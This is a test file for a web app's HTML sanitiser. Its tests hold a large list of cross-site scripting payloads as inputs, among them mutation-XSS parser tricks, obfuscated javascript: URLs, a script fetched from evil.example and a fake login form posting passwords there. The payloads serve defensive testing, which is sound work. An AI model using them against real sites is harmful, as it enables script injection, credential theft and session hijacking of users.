import {
  type DefaultTreeAdapterMap,
  type DefaultTreeAdapterTypes,
  defaultTreeAdapter,
  html as names,
  parseFragment,
} from 'parse5'
import { expect, test } from 'vitest'
import { allowedElements, type Field } from './allowed.ts'
import { mayCarry } from './attributes.ts'
import { sanitise } from './sanitise.ts'
import { storyHtml } from './written.ts'

type Parsed = DefaultTreeAdapterTypes.ChildNode

/** What a browser would make of it: every element with its attributes, as `name` and `name@attribute=value`. */
function* made(
  nodes: readonly Parsed[],
): Generator<{ tag: string; attributes: readonly (readonly [string, string])[] }> {
  for (const node of nodes) {
    if (node.nodeName.startsWith('#') && node.nodeName !== '#text') yield { tag: node.nodeName, attributes: [] }
    if (!('tagName' in node)) continue
    const foreign = node.namespaceURI === names.NS.HTML ? '' : 'foreign:'
    yield { tag: foreign + node.tagName, attributes: node.attrs.map(({ name, value }) => [name, value] as const) }
    yield* made(node.childNodes)
    if (node.tagName === 'template') yield* made((node as DefaultTreeAdapterTypes.Template).content.childNodes)
  }
}

/** Elements that a parser adds by itself around parts of a table. */
const IMPLIED = new Set(['tbody', 'colgroup'])
const SAFE_LINK = /^(?:https?:\/\/[^/\\?#]|mailto:|#u-|\/(?![/\\]))/i
const SAFE_PICTURE = /^(?:https?:\/\/[^/\\?#]|\/media\/)/i

const page = defaultTreeAdapter.createElement('div', names.NS.HTML, [])

function dangers(html: string, field: Field): string[] {
  const found: string[] = []
  for (const { tag, attributes } of made(parseFragment<DefaultTreeAdapterMap>(page, html, {}).childNodes)) {
    if (!allowedElements[field].has(tag) && !IMPLIED.has(tag)) found.push(`<${tag}>`)
    for (const [name, value] of attributes) {
      const clean = [...value].every((sign) => sign >= ' ' && sign !== '\u007f')
      if (!mayCarry(tag, name) || !clean) found.push(`<${tag} ${name}>`)
      if (name === 'href' && !SAFE_LINK.test(value)) found.push(`href=${value}`)
      if (name === 'src' && !SAFE_PICTURE.test(value)) found.push(`src=${value}`)
      if (name === 'cite' && !/^https?:\/\//i.test(value)) found.push(`cite=${value}`)
      if (name === 'id' && !/^(?:u-|p[0-9a-z]+$)/.test(value)) found.push(`id=${value}`)
    }
  }
  return found
}

const refused = (attacks: readonly string[]) => {
  for (const attack of attacks) {
    for (const field of ['chapter', 'note', 'inline'] as const) {
      const clean = sanitise(attack, field)
      expect(dangers(clean, field), `${attack}\n→ ${clean}`).toEqual([])
      expect(sanitise(clean, field), attack).toBe(clean)
    }
    for (const format of ['html', 'plain', 'markdown'] as const) {
      const stored = storyHtml(attack, format, 'chapter')
      expect(dangers(stored, 'chapter'), `${format} ${attack}\n→ ${stored}`).toEqual([])
    }
  }
}

test('the judge of these tests sees what is dangerous', () => {
  for (const html of [
    '<script>a</script>',
    '<p onclick="a">',
    '<a href="javascript:a">',
    '<a href="//b">',
    '<svg></svg>',
    '<!-- a -->',
    '<img src="data:a">',
    '<p id="main">',
    '<p style="a">',
  ])
    expect(dangers(html, 'chapter'), html).not.toEqual([])
  expect(dangers('<p id="u-a">a <a href="#u-b">b</a></p><table><tr><td>c</td></tr></table>', 'chapter')).toEqual([])
})

test('programs do not get in', () => {
  refused([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script/xss src=x></script>',
    '<script\n>alert(1)</script\n>',
    '<script>alert(1)',
    '<<script>alert(1)//<</script>',
    '<script><!--<script>alert(1)</script>--></script>',
    '</script><script>alert(1)</script>',
    '<p><script>alert(1)</p></script>',
    '<script type="text/x">&lt;img src=x onerror=alert(1)&gt;</script>',
    '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
    '<script\u0020\u000c>alert(1)</script>',
    '<ſcript>alert(1)</ſcript>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&amp;lt;script&amp;gt;alert(1)',
    '<xml:script>alert(1)</xml:script>',
    '<template><script>alert(1)</script></template>',
  ])
})

test('event handlers do not get in', () => {
  refused([
    '<img src=x onerror=alert(1)>',
    '<img src=https://a.example/b.png onerror=alert(1)>',
    '<img src="https://a.example/b.png"onload="alert(1)">',
    "<img src='https://a.example/b.png'onload='alert(1)'>",
    '<p onclick=alert(1)>x</p>',
    '<p/onclick=alert(1)/>x',
    '<p\nONCLICK\n=\nalert(1)>x',
    '<p OnPointerEnter="alert(1)">x',
    '<b onmouseover=alert(1)//>x</b>',
    '<details open ontoggle=alert(1)>x</details>',
    '<a href="#" onfocus=alert(1) autofocus tabindex=1>x</a>',
    '<p title="a" onclick="b" title="c">x</p>',
    '<p on click=alert(1)>x',
    '<p\u0000onclick=alert(1)>x',
    '<div contenteditable onblur=alert(1)>x</div>',
    '<body onload=alert(1)>x',
    '<svg/onload=alert(1)>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<td background="javascript:alert(1)" onclick=x>x',
    '<x onclick=alert(1)>x</x>',
  ])
})

test('addresses that run do not get in, however they are spelt', () => {
  refused(
    [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      ' javascript:alert(1)',
      '\u0001javascript:alert(1)',
      'java\tscript:alert(1)',
      'java\nscript:alert(1)',
      'java\u0000script:alert(1)',
      'jav&#x09;ascript:alert(1)',
      'jav&#x0A;ascript:alert(1)',
      'jav&Tab;ascript:alert(1)',
      '&#106;avascript:alert(1)',
      '&#0000106avascript:alert(1)',
      '&#x6A;&#x61;&#x76;&#x61;script:alert(1)',
      'javascript&colon;alert(1)',
      'javascript&#58;alert(1)',
      'javascript&#x3A;alert(1)',
      '&#1;javascript:alert(1)',
      '\u200bjavascript:alert(1)',
      '\u00adjavascript:alert(1)',
      '\ufeffjavascript:alert(1)',
      'vbscript:msgbox(1)',
      'data:text/html,<script>alert(1)</script>',
      'data:text/html;base64,PHNjcmlwdD4=',
      'data:image/svg+xml,<svg onload=alert(1)>',
      'blob:https://a.example/x',
      'file:///etc/passwd',
      'feed:javascript:alert(1)',
      'view-source:javascript:alert(1)',
      'jar:https://a.example/x!/',
      'about:blank',
      'ws://a.example/',
      'livescript:x',
      'mocha:x',
      'x-thing:javascript:alert(1)',
      '\\\\evil.example\\x',
      '/\\evil.example',
      '/\t/evil.example',
      '//evil.example',
      'https:evil',
      'https:/\\evil.example',
      '%6aavascript:alert(1)',
      '#javascript:alert(1)',
      '?javascript:alert(1)',
    ].flatMap((address) => [
      `<a href="${address}">x</a>`,
      `<img src="${address}" alt=x>`,
      `<q cite="${address}">x</q>`,
    ]),
  )
})

test('attributes cannot be broken out of', () => {
  refused([
    '<a href="https://a.example/&quot; onclick=&quot;alert(1)">x</a>',
    `<a href='https://a.example/" onclick="alert(1)'>x</a>`,
    '<a href=https://a.example/`onclick=alert(1)>x</a>',
    '<p title="`onclick=alert(1)">x</p>',
    '<p title="&quot;><script>alert(1)</script>">x</p>',
    `<p title='"><img src=x onerror=alert(1)>'>x</p>`,
    '<p title="--><script>alert(1)</script>">x</p>',
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<img alt="<x" title="/><script>alert(1)</script>" src="https://a.example/b.png">',
    '<p class="x&quot; onclick=&quot;alert(1)">x</p>',
    '<p id="x&quot; onclick=&quot;alert(1)">x</p>',
    '<p lang="en&quot; onclick=&quot;alert(1)">x</p>',
    '<time datetime="2026&quot; onclick=&quot;x">x</time>',
    '<a href="https://a.example/"" onclick=alert(1)>x</a>',
    '<p =" onclick=alert(1) x="">x</p>',
    '<p "onclick=alert(1)">x</p>',
    '<p title=a/onclick=alert(1)>x</p>',
    '<a ="><script>alert(1)</script>">x</a>',
    '<p __proto__="x" constructor="y" hasownproperty=z toString=1>x</p>',
  ])
})

test('what one parser reads otherwise than another does not get in', () => {
  refused([
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p><noscript></p><img src=x onerror=alert(1)></noscript>',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<textarea></textarea/><img src=x onerror=alert(1)>',
    '<style><p title="</style><img src=x onerror=alert(1)>">',
    '<plaintext><img src=x onerror=alert(1)>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi><table><mglyph><style><math><img src=x onerror=alert(1)>',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><title><a id="</title><img src=x onerror=alert(1)>"></a>',
    '<svg><desc><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg><foreignObject><p><iframe srcdoc="<script>alert(1)</script>"></iframe></p></foreignObject></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<table><caption><table><style><img src=x onerror=alert(1)></style></table></caption></table>',
    '<table><tr><td></table><img src=x onerror=alert(1)>',
    '<table><script>alert(1)</script><tr><td>x</table>',
    '<a><table><a href=javascript:alert(1)>x</a></table></a>',
    '<select><template><img src=x onerror=alert(1)></template></select>',
    '<select><script>alert(1)</script></select>',
    '<p><select><option><img src=x onerror=alert(1)></option></select>',
    '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
    '<frameset><frame src=javascript:alert(1)></frameset>',
    '<b><p></b><script>alert(1)</script></p>',
    '<dl><dd><p></dd><img src=x onerror=alert(1)>',
    '<ruby><rt><noscript></ruby><img src=x onerror=alert(1)></noscript>',
    '<li><noscript></li><a title="</noscript><img src=x onerror=alert(1)>">',
  ])
})

test('comments, declarations and instructions hide nothing', () => {
  refused([
    '<!-- a --><b>x</b>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!---><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)>-->',
    '<!-- <!-- --> <img src=x onerror=alert(1)> -->',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>',
    '<math><![CDATA[><img src=x onerror=alert(1)>]]></math>',
    '<?xml version="1.0"?><b>x</b>',
    '<?php echo "<script>alert(1)</script>" ?>',
    '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
    '<!ELEMENT img><img src=x onerror=alert(1)>',
    '</ img src=x onerror=alert(1)>',
    '<% alert(1) %>',
    '<!--',
    '<!-',
    '<!',
    '<',
    '</',
    '<a',
    '<a href="',
    '<img src=x onerror=alert(1)',
    '<img src=x onerror=alert(1)//',
    '&#60;script&#62;alert(1)',
    '&#0;&#x110000;&#xd800;&#xffffffffff;',
  ])
})

test('foreign frames, forms, styles and quiet requests do not get in', () => {
  refused([
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code=x></applet>',
    '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
    '<button formaction=javascript:alert(1)>x</button>',
    '<input type=image src=x onerror=alert(1)>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<link rel=prefetch href="https://evil.example/x">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="position:fixed;inset:0">x</p>',
    '<p style="x:expression(alert(1))">x</p>',
    '<table background="https://evil.example/x"><tr><td>x</table>',
    '<body background="https://evil.example/x">',
    '<img srcset="https://evil.example/x 1x" src="https://a.example/b.png">',
    '<img src="https://a.example/b.png" lowsrc="https://evil.example/x" dynsrc=y longdesc=z usemap=#m ismap>',
    '<picture><source srcset="https://evil.example/x"><img src="https://a.example/b.png"></picture>',
    '<video poster="https://evil.example/x"><source src=x onerror=alert(1)></video>',
    '<audio src="https://evil.example/x" autoplay></audio>',
    '<a href="https://a.example/" ping="https://evil.example/x" download target=_top>x</a>',
    '<img src="https://evil.example/x.gif" width=1 height=1>',
    '<bgsound src="javascript:alert(1)">',
    '<layer src="https://evil.example/x"></layer>',
    '<portal src="https://evil.example/"></portal>',
    '<map name=m><area href=javascript:alert(1)></map>',
    '<dialog open>x</dialog>',
    '<div popover id=x>x</div><button popovertarget=x>y</button>',
    '<p is="x-thing" slot=a part=b nonce=c itemid=d accesskey=e>x</p>',
    '<a href="/users/logout" data-enhance="kudos" data-method="delete">x</a>',
  ])
})
